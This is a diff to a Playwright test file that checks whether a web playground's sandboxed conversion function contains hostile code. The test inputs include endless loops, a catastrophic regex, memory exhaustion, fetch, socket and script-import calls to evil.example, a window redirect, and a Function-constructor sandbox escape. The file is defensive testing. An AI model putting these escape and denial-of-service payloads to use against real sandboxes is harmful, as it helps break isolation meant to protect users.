@@ -48,57 +48,71 @@ async function openWithCage(playground: Playground, page: Page): Promise<string[
   return requests;
 }
 
-const faults: readonly (readonly [name: string, source: string, line: number, words: RegExp])[] = [
-  ["loops without end", withBody("for (;;) {}"), 2, /longer than 500 ms/],
-  ["loops while it is loaded", `const a = 1;\nwhile (a) {}\n${withBody("")}`, 2, /longer than 500 ms/],
-  ["matches for ever", withBody("/(a+)+b/.test('a'.repeat(40));"), 2, /longer than 500 ms/],
-  ["allocates without end", withBody("let s = 'x'; for (;;) s += s;"), 2, /more than 64 MB/],
-  ["recurses without end", withBody("const f = () => f() + 1; f();"), 2, /too deeply/],
-  ["throws", withBody("throw new Error('no');"), 2, /threw/],
-  ["cannot be read", withBody("let = = ;"), 2, /cannot be read/],
-  ["returns nonsense", withBody("return 5;"), 1, /did not take/],
-  ["changes the name", withBody("object.metadata.name = 'other';"), 1, /did not take/],
-  ["tries fetch", withBody("fetch('https://evil.example/');"), 2, /threw/],
-  ["tries XMLHttpRequest", withBody("new XMLHttpRequest();"), 2, /threw/],
-  ["tries a socket", withBody("new WebSocket('wss://evil.example/');"), 2, /threw/],
-  ["imports over the network", withBody("return import('https://evil.example/x.js');"), 1, /did not take/],
-  ["reaches for the page", withBody("document.title = 'taken';"), 2, /threw/],
-  ["reaches for the window", withBody("window.top.location = 'https://evil.example/';"), 2, /threw/],
-  ["reaches for the worker", withBody("postMessage({ type: 'ready' });"), 2, /threw/],
-  ["reaches for the worker's self", withBody("self.close();"), 2, /threw/],
-  ["loads scripts into the worker", withBody("importScripts('https://evil.example/');"), 2, /threw/],
-  [
-    "makes functions to get out",
-    withBody("(function () {}).constructor('return this')().process.exit();"),
-    2,
-    /threw/,
-  ],
-  ["waits", withBody("setTimeout(() => 1, 1);"), 2, /threw/],
-];
+type Fault = readonly [name: string, source: string, line: number, words: RegExp];
 
-for (const [name, source, line, words] of faults) {
-  test(`a function that ${name} is held, and named at its line`, async ({ playground, page }) => {
+/** What a function may do, by kind: each kind is one visit, and each fault is followed by a good function. */
+const faults: Readonly<Record<string, readonly Fault[]>> = {
+  "takes all that it can get": [
+    ["loops without end", withBody("for (;;) {}"), 2, /longer than 500 ms/],
+    ["loops while it is loaded", `const a = 1;\nwhile (a) {}\n${withBody("")}`, 2, /longer than 500 ms/],
+    ["matches for ever", withBody("/(a+)+b/.test('a'.repeat(40));"), 2, /longer than 500 ms/],
+    ["allocates without end", withBody("let s = 'x'; for (;;) s += s;"), 2, /more than 64 MB/],
+    ["recurses without end", withBody("const f = () => f() + 1; f();"), 2, /too deeply/],
+  ],
+  "is wrong": [
+    ["throws", withBody("throw new Error('no');"), 2, /threw/],
+    ["cannot be read", withBody("let = = ;"), 2, /cannot be read/],
+    ["returns nonsense", withBody("return 5;"), 1, /did not take/],
+    ["changes the name", withBody("object.metadata.name = 'other';"), 1, /did not take/],
+  ],
+  "reaches for what is outside": [
+    ["tries fetch", withBody("fetch('https://evil.example/');"), 2, /threw/],
+    ["tries XMLHttpRequest", withBody("new XMLHttpRequest();"), 2, /threw/],
+    ["tries a socket", withBody("new WebSocket('wss://evil.example/');"), 2, /threw/],
+    ["imports over the network", withBody("return import('https://evil.example/x.js');"), 1, /did not take/],
+    ["reaches for the page", withBody("document.title = 'taken';"), 2, /threw/],
+    ["reaches for the window", withBody("window.top.location = 'https://evil.example/';"), 2, /threw/],
+    ["reaches for the worker", withBody("postMessage({ type: 'ready' });"), 2, /threw/],
+    ["reaches for the worker's self", withBody("self.close();"), 2, /threw/],
+    ["loads scripts into the worker", withBody("importScripts('https://evil.example/');"), 2, /threw/],
+    [
+      "makes functions to get out",
+      withBody("(function () {}).constructor('return this')().process.exit();"),
+      2,
+      /threw/,
+    ],
+    ["waits", withBody("setTimeout(() => 1, 1);"), 2, /threw/],
+  ],
+};
+
+for (const [kind, ofKind] of Object.entries(faults)) {
+  test(`a function that ${kind} is held, and named at its line`, async ({ playground, page }) => {
+    test.slow();
     const requests = await openWithCage(playground, page);
-    await page.getByRole("textbox", { name: "Conversion" }).fill(source);
-    // While it runs, the editor takes a key at once.
-    await page.getByRole("textbox", { name: "Conversion" }).press("End");
-    await page.keyboard.type("/", { delay: 0 });
     const typed = page.getByRole("textbox", { name: "Conversion" });
-    await expect(typed).toHaveValue(/\//, { timeout: 500 });
-    await typed.fill(source);
     const fault = page.getByRole("status", { name: "Fault of the conversion function" });
-    await expect(fault).toContainText(words);
-    await expect(fault).toContainText(`line ${line}`);
-    await expect(playground.verdict).toContainText("Resource rejected");
-    await expect(playground.problems().first()).toContainText(words);
-    await expect(page).toHaveTitle("CRD Playground");
-    await fault.getByRole("button", { name: `line ${line}` }).click();
-    await expect(typed).toBeFocused();
-    // It goes on as if nothing had been.
-    await typed.fill(withBody("// good again"));
-    await expect(playground.verdict).toContainText("Resource accepted");
-    await expect(fault).toBeHidden();
-    expect(requests).toEqual([]);
+    for (const [name, source, line, words] of ofKind) {
+      await test.step(name, async () => {
+        await typed.fill(source);
+        // While it runs, the editor takes a key at once.
+        await typed.press("End");
+        await page.keyboard.type("/", { delay: 0 });
+        await expect(typed).toHaveValue(/\//, { timeout: 500 });
+        await typed.fill(source);
+        await expect(fault).toContainText(words);
+        await expect(fault).toContainText(`line ${line}`);
+        await expect(playground.verdict).toContainText("Resource rejected");
+        await expect(playground.problems().first()).toContainText(words);
+        await expect(page).toHaveTitle("CRD Playground");
+        await fault.getByRole("button", { name: `line ${line}` }).click();
+        await expect(typed).toBeFocused();
+        // It goes on as if nothing had been.
+        await typed.fill(withBody("// good again"));
+        await expect(playground.verdict).toContainText("Resource accepted");
+        await expect(fault).toBeHidden();
+        expect(requests).toEqual([]);
+      });
+    }
   });
 }
 
